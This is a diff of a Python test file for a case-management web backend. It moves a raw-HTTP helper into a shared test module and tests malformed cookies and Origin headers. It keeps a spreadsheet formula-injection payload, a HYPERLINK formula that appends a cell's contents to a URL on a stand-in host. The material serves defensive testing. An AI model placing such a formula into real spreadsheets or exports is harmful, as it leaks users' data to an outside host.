@@ -8,6 +8,7 @@ from openpyxl import load_workbook
 
 from backend.domain import Role, Severity, Status
 from backend.models import Case, CaseEvent
+from tests.backend.test_hostile_input import raw_status
 from tests.factories import actor_for, make_staff
 
 FORMULA = '=HYPERLINK("http://x/?"&A2,"click")'
@@ -188,24 +189,11 @@ async def test_only_a_manager_is_offered_and_allowed_to_reopen_a_closed_case(boa
 # ---- headers: a session cookie that is not UTF-8, an Origin that is not a URL --------------------
 
 
-async def raw_status(board, request: bytes) -> int:
-    """Send bytes as they are (clients refuse header bytes that are not UTF-8); the answer's status."""
-    import asyncio
-
-    server = board.client.server
-    reader, writer = await asyncio.open_connection(server.host, server.port)
-    try:
-        writer.write(request)
-        await writer.drain()
-        status_line = await reader.readline()
-    finally:
-        writer.close()
-    return int(status_line.split()[1])
 
 
 async def test_a_session_cookie_that_is_not_utf8_is_no_session(board):
     request = b"GET /dashboard/ HTTP/1.1\r\nHost: x\r\nCookie: qingchu_session=\xff\xfe\r\nConnection: close\r\n\r\n"
-    assert await raw_status(board, request) == 401  # the sign-in page, not a 500
+    assert await raw_status(board.client.server, request) == 401  # the sign-in page, not a 500
 
 
 @pytest.mark.parametrize("origin", ["http://[", "http://[::1", "https://]x["])
